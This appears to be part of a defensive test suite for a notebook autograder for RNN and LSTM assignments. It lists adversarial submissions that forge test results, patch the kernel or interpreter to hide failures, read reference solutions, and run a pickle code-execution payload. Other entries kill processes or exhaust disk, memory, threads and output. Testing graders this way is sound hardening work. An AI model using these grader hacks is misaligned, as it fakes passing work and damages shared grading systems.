    return np.zeros_like(X), np.zeros_like(Wx), np.zeros_like(Ws), np.zeros(Ws.shape[0])
'''}, loses=("test_tbptt_backward",)),
    Attack("modify-nbgrader-config", "damage to others", A4, {"clip_by_global_norm": after(WRITE_EVERYWHERE)},
           feedback=("nothing outside my sandbox",)),
    Attack("renamed-grade-id", "honest notebook edits", A4, {}, edit=set_meta("clip_by_global_norm", grade_id="my_clip"),
           feedback=("was not found under its name",)),
    Attack("schema-upgrade-all-cells", "malformed metadata", A4, {},
           edit=set_meta_all(schema_version=4, checksum="0" * 32)),
    Attack("forged-huge-int", "forge the result record", A4, {"clip_by_global_norm": before(forge('''
def _huge_norm(fn):
    recs = _kernel.run_calls(fn, _cases("test_clip_by_global_norm"))
    for r in recs:
        r["value"] = (r["value"][0], 10**400)
    _show(_b64.b64encode(_kernel.encode_results("test_clip_by_global_norm", recs)).decode(), "test_clip_by_global_norm")
_on_check("test_clip_by_global_norm", _huge_norm)
'''))}, loses=("test_clip_by_global_norm",)),
    Attack("malformed-widget-comm", "patch the kernel", A4, {}, edit=add_cell_after("clip_by_value", '''
import comm
# a widget without state (nbclient's widget emulation would index data["state"]), and one with a 20 MB state
comm.create_comm(target_name="jupyter.widget", data={"no": "state"})
for i in range(10):
    comm.create_comm(target_name="jupyter.widget", data={"state": {"_model_module": "@jupyter-widgets/output",
                     "_model_name": "OutputModel", "blob": "x" * 2**21}, "buffer_paths": []})
''')),
    Attack("forged-execution-count", "patch the kernel", A4, {}, edit=add_cell_after("clip_by_value", '''
# an execute_result whose execution_count is a string: nbformat refuses it when nbclient stores it
_k = get_ipython().kernel
_k.session.send(_k.iopub_socket, "execute_result",
                {"data": {"text/plain": "forged"}, "metadata": {}, "execution_count": "<b>x</b>"},
                parent=_k.get_parent())
''')),
    Attack("write-500mb-file", "limits", A4, {"clip_by_value": inside("clip_by_value", '''
try:
    with open("/tmp/big.bin", "wb") as f:
        for _ in range(500):
            f.write(bytes(2**20))
except OSError:
    pass
''')}),
    Attack("nan-inf-outputs", "values that pretend", A4, {"jacobian_to_last": '''
def jacobian_to_last(Hs, Ws, t):
    J = np.full((Hs.shape[1],) + Ws.shape, np.nan)
    J[:, 0, 0] = np.inf
    return J
'''}, loses=("test_jacobian_to_last",), feedback=("NaN or infinity",)),
    Attack("large-legit-output", "honest work", A4, {"tbptt_backward": after('''
for epoch in range(50000):
    print(f"epoch {epoch:6d}: loss {1.0 / (epoch + 1):.6f} (a training log of about 2.5 MB)")
''')}, feedback=("Output truncated",)),

    # =========================================================================================
    # a5-teacher-forcing
    # =========================================================================================
    Attack("wrap-do-execute", "patch the kernel", A5, {"output_rnn_backward": forge('''
_kernel = get_ipython().kernel
_real_do_execute = _kernel.do_execute
_FORGED = "_show(_forged('test_output_rnn_backward', lambda dO, cache: tuple(np.zeros_like(np.asarray(a)) for a in "
_FORGED += "(cache[0], cache[3], cache[4], cache[3][:, 0], cache[5], cache[5][:, 0]))), 'test_output_rnn_backward')"


async def _do_execute(code, silent, *args, **kwargs):
    if "test_output_rnn_backward" in code:
        code = _FORGED
    return await _real_do_execute(code, silent, *args, **kwargs)


_kernel.do_execute = _do_execute


def output_rnn_backward(dO, cache):
    raise NotImplementedError()
''')}, loses=("test_output_rnn_backward",)),
    Attack("huge-base64-blob", "forge the result record", A5, {"teacher_forcing_inputs": after(forge('''
_blob = _b64.b64encode(bytes(33 * 2**20)).decode()
_on_check("test_teacher_forcing_inputs", lambda fn: _show(_blob, "test_teacher_forcing_inputs"))
'''))}, loses=("test_teacher_forcing_inputs",), feedback=("could not be read",)),
    Attack("list-that-compares-equal", "values that pretend", A5, {"teacher_forcing_inputs": '''
class _Yes(list):
    def __eq__(self, other):
        return True
    def __array__(self, dtype=None, copy=None):
        return np.zeros((len(self), 1), dtype=int)


def teacher_forcing_inputs(Y):
    return _Yes([[-1] * Y.shape[1]] + Y[:-1].tolist())
'''}, loses=("test_teacher_forcing_inputs",)),
    Attack("read-site-packages", "read the reference", A5, {"output_rnn_backward": SEARCH + '''
_code = None
for _path, _text in _found("models.py", "layers.py", "a5_teacher_forcing.py", "a5-teacher-forcing.ipynb",
                           "__editable___rnnkit_0_1_0_finder.py",
                           guesses=["/work/main/rnnkit/models.py", "/work/main/rnnkit/grading/a5_teacher_forcing.py",
                                    "../../../source/a5-teacher-forcing/a5-teacher-forcing.ipynb"]):
    if "def output_rnn_backward" in _text:
        _code = _text
if _code:
    exec(_code)
else:
    def output_rnn_backward(dO, cache):
        X, F, Hs, Wx, Wo, Wy = cache
        return tuple(np.zeros_like(a) for a in (X, Wx, Wo, Wx[:, 0], Wy, Wy[:, 0]))
'''}, loses=("test_output_rnn_backward",)),
    Attack("signal-parent-and-kill-minus-one", "damage to others", A5,
           {"generate_closed_loop": inside("generate_closed_loop", SIGNALS)}),
    Attack("signal-sweep-hits-own-threads", "damage to others", A5,
           {"scheduled_feedback": inside("scheduled_feedback", SIGNAL_SWEEP)},
           loses=("test_scheduled_feedback",), feedback=("killed by signal SIGKILL",)),
    Attack("sleep-forever-in-one-function", "timeout", A5, {"scheduled_feedback": '''
import signal as _signal, time as _time
def scheduled_feedback(X, Y, p_truth, params, rng):
    _signal.signal(_signal.SIGINT, _signal.SIG_IGN)
    _signal.signal(_signal.SIGTERM, _signal.SIG_IGN)
    while True:
        _time.sleep(1)
'''}, loses=("test_scheduled_feedback",), feedback=("ran longer than",)),
    Attack("solution-flag-flipped", "honest notebook edits", A5, {},
           edit=set_meta("output_rnn_backward", solution=False), feedback=("no longer marked",)),
    Attack("fill-sandbox-tmp", "limits", A5, {"output_rnn_forward": after('''
import os as _os
_n = 0
try:
    for _i in range(40):
        with open(f"/tmp/fill{_i}.bin", "wb") as _f:
            for _ in range(60):
                _f.write(bytes(2**20))
                _n += 1
except OSError:
    pass
print(f"filled /tmp with {_n} MB")
''')}),
    Attack("fill-host-disk-via-ipc-dir", "limits", A5, {"teacher_forcing_inputs": after(IPC_FILL)},
           feedback=("ipc dir refused",)),
    Attack("stdout-20mb", "limits", A5, {"generate_closed_loop": after('''
import sys as _sys
for _ in range(20):
    _sys.stdout.write("x" * 2**20 + "\\n")
''')}, feedback=("output cut after",)),
    Attack("flood-grader-log", "damage to others", A5, {"scheduled_feedback": after(RAW_STDOUT)}),

    # =========================================================================================
    # a6-lstm
    # =========================================================================================
    Attack("settrace-getframe", "patch the interpreter", A6, {"lstm_step_backward": '''
import sys as _sys


def _tracer(frame, event, arg):
    if event == "return" and frame.f_code.co_name == "run_calls":
        for rec in arg or []:
            rec["error"] = None
            rec["modified"] = []
    return _tracer


_sys.settrace(_tracer)
try:
    import threading as _th
    _th.settrace(_tracer)
except Exception:
    pass


def lstm_step_backward(dh, dc, cache):
    caller = _sys._getframe(1)
    for name in ("records", "rec", "originals"):
        caller.f_locals.get(name)
    x, h_prev, c_prev, i, f, o, g, c, W = cache
    return (np.zeros_like(x), np.zeros_like(h_prev), np.zeros_like(c_prev), np.zeros_like(W), np.zeros(W.shape[0]))
'''}, loses=("test_lstm_step_backward",)),  # lstm_backward's loop is right: judged with a correct step (blame)
    Attack("object-array-payload", "forge the result record", A6, {"lstm_forward": after(forge('''
import io as _io, json as _json


class _Boom:
    def __reduce__(self):
        return (_os.system, ("touch /tmp/rnnkit-grader-owned",))


def _pickled(fn):
    buf = _io.BytesIO()
    structure = {"grade_id": "test_lstm_forward", "calls": [{"value": {"t": "array", "k": "a0", "cls": "ndarray"},
                 "error": None, "modified": [], "aliased": [], "objects": {}}] * len(_cases("test_lstm_forward"))}
    _np.savez(buf, a0=_np.array([_Boom()], dtype=object), __structure__=_np.array(_json.dumps(structure)))
    _show(_b64.b64encode(buf.getvalue()).decode(), "test_lstm_forward")
_on_check("test_lstm_forward", _pickled)
'''))}, loses=("test_lstm_forward",), feedback=("could not be read",)),
    Attack("inspect-getsource", "read the reference", A6, {"lstm_step_forward": '''
import inspect as _inspect, os as _os, rnnkit as _rk
_src = ""
for _obj in [_rk] + [getattr(_rk, n) for n in dir(_rk)]:
    try:
        _src += _inspect.getsource(_obj)
    except Exception:
        pass
for _d in getattr(_rk, "__path__", []):
    for _n in _os.listdir(_d):
        if _n.endswith(".py"):
            _src += open(_os.path.join(_d, _n)).read()
if "def lstm_step_forward" in _src:
    exec(_src)
else:
    def lstm_step_forward(x, h_prev, c_prev, W, b):
        H = h_prev.shape[1]
        return np.zeros_like(h_prev), np.zeros_like(c_prev), None
'''}, loses=("test_lstm_step_forward",)),  # lstm_forward's loop is right: judged with a correct step (blame)
    Attack("submitted-rnnkit-folder", "shadow a module from the submission", A6, {"lstm_backward": '''
from rnnkit.layers import lstm_backward
'''}, files={"rnnkit/__init__.py": "import sys\nsys.path.insert(0, '/work/main')\n",
             "rnnkit/layers.py": "from rnnkit import *\ndef lstm_backward(dHs, caches):\n    return 0, 0, 0, 0, 0\n"},
           loses=LSTM_BACKWARD_CELLS),
    Attack("self-sigkill-in-one-function", "kernel death", A6, {"lstm_step_backward": '''
import os as _os, signal as _signal
def lstm_step_backward(dh, dc, cache):
    _os.kill(_os.getpid(), _signal.SIGKILL)
'''}, loses=("test_lstm_step_backward",) + LSTM_BACKWARD_CELLS, feedback=("killed by signal SIGKILL",)),
    Attack("complex-dtype", "wrong dtypes", A6, {"lstm_step_forward": after('''
_real_step = lstm_step_forward


def lstm_step_forward(x, h_prev, c_prev, W, b):
    h, c, cache = _real_step(x, h_prev, c_prev, W, b)
    return h.astype(complex), c.astype(complex), cache
''')}, loses=("test_lstm_step_forward",)),
    Attack("sequence-detects-the-oracle", "exploit the blame oracle", A6, {"lstm_forward": lambda solution: "_my_step = lstm_step_forward\n" + solution.replace(
        "    T, B, D = X.shape\n", "    if lstm_step_forward is _my_step:  # with my own step: unfinished\n"
        "        return np.zeros((X.shape[0],) + h0.shape), []\n    T, B, D = X.shape\n", 1)},
           loses=("test_lstm_forward",)),  # right only while the grader's stand-in replaces my (correct) step
    Attack("kill-minus-one", "damage to others", A6, {"lstm_forward": inside("lstm_forward", '''
import os as _os, signal as _signal
try:
    _os.kill(-1, _signal.SIGKILL)
except OSError:
    pass
''')}),
    Attack("test-cell-moved-above-solution", "honest notebook edits", A6, {},
           edit=chain(move_before("test_lstm_forward", "lstm_forward"),
                      move_before("test_lstm_step_backward", "lstm_step_forward"))),
    Attack("honest-valueerror-like-rnnkit", "honest work", A6, {"lstm_step_forward": LSTM_VALIDATED}),
    Attack("thread-bomb", "limits", A6, {"lstm_backward": after('''
import threading as _th, time as _time
_threads = []
try:
    for _ in range(200):
        _t = _th.Thread(target=_time.sleep, args=(1.0,))
        _t.start()
        _threads.append(_t)
except RuntimeError:  # "can't start new thread": the sandbox's process limit
    pass
print(len(_threads), "threads started")
for _t in _threads:
    _t.join()
''')}),
    Attack("corrupt-json-not-utf8", "corrupt notebook", A6, {},
           edit=lambda nb: b"\xff\xfe\x00{" + bytes(range(256)) * 4, loses="all"),

    # =========================================================================================
    # a7-char-lm
    # =========================================================================================
    Attack("replace-kernel-run-check", "replace rnnkit.grading.kernel", A7, {"sample_with_temperature": forge('''
def sample_with_temperature(logits, temperature, rng):
    return np.argmax(logits, axis=1)

_on_check("test_sample_with_temperature",
          lambda fn: _show(_forged("test_sample_with_temperature", lambda logits, T, rng: logits.argmax(1)),
                           "test_sample_with_temperature"))
''')}, loses=("test_sample_with_temperature",)),
    Attack("npz-zip-bomb", "forge the result record", A7, {"make_batches": before(forge(zip_bomb(False) + '''
_on_check("test_make_batches", lambda fn: _show(_bomb, "test_make_batches"))
'''))}, loses=("test_make_batches",), feedback=("payload expands beyond",)),
    Attack("read-course-files", "read the reference", A7, {"train_step": SEARCH + '''
import json as _json
_code = None
for _path, _text in _found("a7-char-lm.ipynb", "a7_char_lm.py", "optim.py", "gradebook.db",
                           guesses=["/work/main/source/a7-char-lm/a7-char-lm.ipynb",
                                    "../../../source/a7-char-lm/a7-char-lm.ipynb"]):
    if _path.endswith(".ipynb"):
        try:
            for _c in _json.loads(_text)["cells"]:
                if "def train_step" in "".join(_c["source"]) and "BEGIN SOLUTION" in "".join(_c["source"]):
                    _code = "".join(_c["source"])
        except Exception:
            pass
if _code:
    exec(_code)
else:
    def train_step(model, X, Y, state, lr, max_norm):
        loss, grads, new_state = model.loss_and_grads(X, Y, state, return_state=True)
        return loss, new_state
'''}, loses=("test_train_step",)),
    Attack("network-loopback", "damage to others", A7, {"make_batches": after(NETWORK)},
           feedback=("no host network",)),
    Attack("extra-helper-cell", "honest notebook edits", A7, {
        "sample_with_temperature": '''
def sample_with_temperature(logits, temperature, rng):
    u = rng.random(logits.shape[0])
    return _inverse_cdf(softmax(logits / temperature), u)
''',
        "train_step": '''
def train_step(model, X, Y, state, lr, max_norm):
    loss, grads, new_state = model.loss_and_grads(X, Y, state, return_state=True)
    for name, g in _clipped(grads, max_norm).items():
        model.params[name] -= lr * g
    return loss, new_state
'''}, edit=add_cell_after("setup", '''
# my helpers
def _inverse_cdf(p, u):
    idx = (np.cumsum(p, axis=1) < u[:, None]).sum(axis=1)
    return np.minimum(idx, p.shape[1] - 1)


def _clipped(grads, max_norm):
    norm = np.sqrt(sum(np.sum(g * g) for g in grads.values()))
    scale = min(1.0, max_norm / norm) if norm > 0 else 1.0
    return {k: g * scale for k, g in grads.items()}
''')),
    Attack("answer-cell-turned-markdown", "honest notebook edits", A7, {}, edit=to_markdown("make_batches"),
           loses=("test_make_batches",), feedback=("graded as unanswered",)),
    Attack("float-classes", "wrong dtypes", A7, {"sample_with_temperature": after('''
_int_sampler = sample_with_temperature


def sample_with_temperature(logits, temperature, rng):
    return _int_sampler(logits, temperature, rng).astype(float)
''')}, loses=("test_sample_with_temperature",)),
    Attack("allocate-4gb-caught", "limits", A7, {"train_step": inside("train_step", '''
try:
    big = bytearray(4 * 2**30)
except MemoryError:
    big = None
''')}),
    Attack("memory-across-processes", "limits", A7, {}, edit=add_cell_after("make_batches", '''
# each process may map 1.5 GB (the kernel itself maps ~1 GB); eight children writing 400 MB each
# would hold 3.2 GB at once. Each child reports when its block is written, then holds it until the
# parent has heard from every child that got that far: the children that exit cleanly afterwards
# were all alive at that moment, so they held their blocks at the same time.
import os, select, time
ready_r, ready_w = os.pipe()
go_r, go_w = os.pipe()
kids = []
for _ in range(8):
    pid = os.fork()
    if pid == 0:
        try:
            block = np.ones(50 * 2**20)  # 400 MB, written
            os.write(ready_w, b"r")
            select.select([go_r], [], [], 20)
            os._exit(0)
        except MemoryError:
            os._exit(1)
    kids.append(pid)
os.close(ready_w)
reported, deadline = 0, time.monotonic() + 15
while reported < len(kids) and time.monotonic() < deadline:
    if select.select([ready_r], [], [], 0.5)[0]:
        chunk = os.read(ready_r, 8)
        if not chunk:
            break
        reported += len(chunk)
os.write(go_w, b"g" * len(kids))
held = 0.4 * sum(os.waitpid(pid, 0)[1] == 0 for pid in kids)
# 2.0 GB or more in children alone is above the sandbox's total (2 GB for kernel and children)
print(f"held {held:.1f} GB at once" if held >= 2.0 else " ".join(["memory", "bounded"]))
'''), absent=(" GB at once",)),  # the sandbox's cgroup (2 GB in all) OOM-kills children or the
                                  # kernel: which one it picks varies, but 2 GB are never held
    Attack("200-processes", "limits", A7, {}, edit=add_cell_after("make_batches", '''
import subprocess
children = []
for _ in range(200):
    try:
        children.append(subprocess.Popen(["sleep", "60"]))
    except OSError:
        break
print(len(children), "children started")
''')),
]
